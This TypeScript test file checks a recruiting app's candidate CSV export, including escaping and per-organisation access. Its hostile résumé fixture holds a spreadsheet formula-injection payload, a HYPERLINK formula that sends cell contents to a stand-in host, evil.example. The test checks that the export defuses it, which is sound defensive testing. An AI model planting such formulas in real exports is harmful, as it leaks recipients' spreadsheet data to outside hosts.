import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TEST_DATABASE_KINDS } from '../adapters/storage/__fixtures__/test-databases.js';
import { CANDIDATES_CSV_HEADER } from '../app/webhooks/export-candidates-csv.js';
import {
  completeInterview,
  EXAMPLE_JOB,
  EXAMPLE_RESUME_MD,
  filesForm,
  openTestApp,
  signUpRecruiter,
  TestClient,
  type TTestApp,
} from './__fixtures__/test-app.js';
import { startEvaluationWorker } from './evaluation-worker.js';

/** The cells of a CSV this export writes (quoted cells with doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index];
    if (isQuoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') isQuoted = false;
      else cell += char;
    } else if (char === '"') isQuoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index++;
    } else cell += char;
  }
  return rows;
}

const HOSTILE_RESUME = `# =HYPERLINK("http://evil.example/?leak="&A1,"Open")

-2+3@evil.example · +44 20 7946 0000

## Experience

Engineer at Acme, 2019–2024: built payment systems in Go.
`;

describe.each(TEST_DATABASE_KINDS)('the candidates CSV on %s', (kind) => {
  let server: TTestApp;
  let recruiter: TestClient;
  beforeEach(async () => {
    server = await openTestApp(kind);
    recruiter = await signUpRecruiter(server.app, { email: 'ada@example.com', name: 'Ada Lovelace' });
  });
  afterEach(async () => {
    await server.dispose();
  });

  it('lists every candidate with status, recommendation, must-haves, flags, decision and dates, and runs no formula', async () => {
    const job = await recruiter.expect(201, 'POST', '/api/jobs', { json: { text: EXAMPLE_JOB } });
    const upload = await recruiter.expect(201, 'POST', `/api/jobs/${job.id}/candidates`, {
      form: filesForm('files', [
        { name: 'priya.md', bytes: EXAMPLE_RESUME_MD },
        { name: 'mallory.md', bytes: HOSTILE_RESUME },
      ]),
    });
    const [priya, mallory] = upload.created;
    const link = await recruiter.expect(201, 'POST', `/api/candidates/${priya.id}/invitation`, { json: {} });
    await completeInterview(new TestClient(server.app), link.token);
    const worker = startEvaluationWorker(server.context, { isPolling: false });
    expect(await worker.runOnce()).toBe(1);
    await worker.stop();
    await recruiter.expect(201, 'POST', `/api/candidates/${priya.id}/decision`, {
      json: { decision: 'advance', reason: 'Measured answers.' },
    });
    const comparison = await recruiter.expect(200, 'GET', `/api/jobs/${job.id}/comparison`);
    const priyaRow = comparison.rows.find(
      (row: { candidate: { id: string } }) => row.candidate.id === priya.id,
    );

    const response = await recruiter.request('GET', `/api/jobs/${job.id}/candidates.csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="[\w-]+-candidates\.csv"$/,
    );
    const text = await response.text();
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...CANDIDATES_CSV_HEADER]);
    expect(rows).toHaveLength(3);
    const first = rows.find((row) => row[0] === 'Priya Raman');
    expect(first).toEqual([
      'Priya Raman',
      'priya.raman@example.org',
      'evaluated',
      priyaRow.candidate.recommendation,
      String(priyaRow.mustHaveMet),
      String(priyaRow.mustHaveTotal),
      String(priyaRow.redFlags.length),
      'advance',
      'Ada Lovelace',
      priyaRow.candidate.decision.decidedAt,
      expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      priyaRow.candidate.updatedAt,
    ]);
    // The hostile candidate (its formula heading is not taken as a name): the email a spreadsheet
    // would compute starts with '.
    const hostile = rows.find((row) => row[0] === mallory.fileName) ?? [];
    expect(hostile.slice(0, 8)).toEqual([
      'mallory.md',
      "'-2+3@evil.example",
      'new',
      '',
      '',
      String(priyaRow.mustHaveTotal),
      '',
      '',
    ]);
    for (const cell of hostile) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('answers 404 for a job of another organisation', async () => {
    const job = await recruiter.expect(201, 'POST', '/api/jobs', { json: { text: EXAMPLE_JOB } });
    const stranger = await signUpRecruiter(server.app, {
      email: 'eve@example.org',
      organisationName: 'Other',
    });
    await stranger.expect(404, 'GET', `/api/jobs/${job.id}/candidates.csv`);
    await new TestClient(server.app).expect(401, 'GET', `/api/jobs/${job.id}/candidates.csv`);
  });
});
